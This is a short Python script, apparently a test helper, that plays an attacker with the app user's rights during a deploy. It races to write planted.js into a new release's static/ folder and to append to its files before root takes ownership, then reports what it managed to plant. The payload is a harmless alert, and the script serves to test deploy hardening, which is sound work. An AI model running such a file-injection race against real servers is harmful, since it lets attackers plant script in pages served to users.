"""Code execution as the app user during a deploy: `python3 static_attacker.py RELEASES STOP_FILE`.

Prints `watching` once it has listed RELEASES, then watches it for a new release's static/ and, while it is
there, tries to add planted.js to each of its directories and to append to each file in them (what nginx would
then serve), until STOP_FILE exists; then prints one JSON line: the rounds it made (and how many found static/
not yet root's), the writes it tried, and what it planted. Standard library only: it runs with the server's
python3.
"""

import json
import os
import sys
import time


def attack(releases: str, stop_file: str) -> dict:
    known = set(os.listdir(releases))
    found = {"rounds": 0, "rounds_before_root_took_it": 0, "tries": 0, "planted": []}
    print("watching", flush=True)
    while not os.path.exists(stop_file):
        for name in sorted(set(os.listdir(releases)) - known):
            static = os.path.join(releases, name, "static")
            try:
                owner = os.stat(static).st_uid
            except OSError:
                continue
            found["rounds"] += 1
            found["rounds_before_root_took_it"] += owner != 0
            for top, _dirs, files in os.walk(static):
                targets = [(os.path.join(top, "planted.js"), "x")] + [(os.path.join(top, f), "a") for f in files]
                for path, mode in targets:
                    found["tries"] += 1
                    try:
                        with open(path, mode) as handle:
                            handle.write("alert('planted');\n")
                        found["planted"].append(os.path.relpath(path, releases))
                    except OSError:
                        pass
        time.sleep(0.005)
    return found


if __name__ == "__main__":
    print(json.dumps(attack(sys.argv[1], sys.argv[2])), flush=True)
